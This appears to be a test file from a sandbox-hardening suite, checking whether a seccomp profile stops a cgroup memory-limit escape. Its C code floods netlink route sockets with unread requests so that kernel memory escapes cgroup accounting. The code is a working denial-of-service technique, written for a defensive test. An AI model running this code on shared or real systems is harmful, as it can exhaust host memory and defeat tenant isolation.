/* ---
class = "memory"
attempts = """\
send netlink requests and leave the answers unread, which the kernel charges to no cgroup"""
must = "netlink is not available"
held_by = "seccomp"
limits = { memory = "32M" }
control = "seccomp"

[[except]]
when = ["none"]
expect = "escaped"
exception = """\
without a profile, netlink is available, and the kernel charges its answers to no cgroup"""
--- */
#include "hostile.h"
#include <linux/rtnetlink.h>

static void attack(void)
{
    long held = 0;
    for (int i = 0; i < 900; i++) {
        struct { struct nlmsghdr head; struct ifinfomsg body; } question = {
            { sizeof question, RTM_GETLINK, NLM_F_REQUEST, 1, 0 }, { .ifi_index = 1 },
        };
        int size = 64 << 20, netlink = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
        uint32_t info[16] = { 0 };
        socklen_t length = sizeof info;
        if (netlink < 0 && errno == EAFNOSUPPORT)
            contained();
        must(netlink);
        setsockopt(netlink, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
        /* Fill the socket until it has all the memory that it may have. */
        for (int j = 0; j < 4000 && (info[1] == 0 || info[0] < info[1] / 10 * 9); j++) {
            if (send(netlink, &question, sizeof question, MSG_DONTWAIT) < 0)
                break;
            if (j % 50 == 49)
                must(getsockopt(netlink, SOL_SOCKET, SO_MEMINFO, info, &length));
        }
        held += info[0];
        /* This is far above the limit, because the supervisor checks every 10 ms but may have to
         * wait for its CPU. */
        if (held >= 160 * MIB)
            escaped("%ld MiB of answers in %d sockets", held / MIB, i + 1);
    }
}
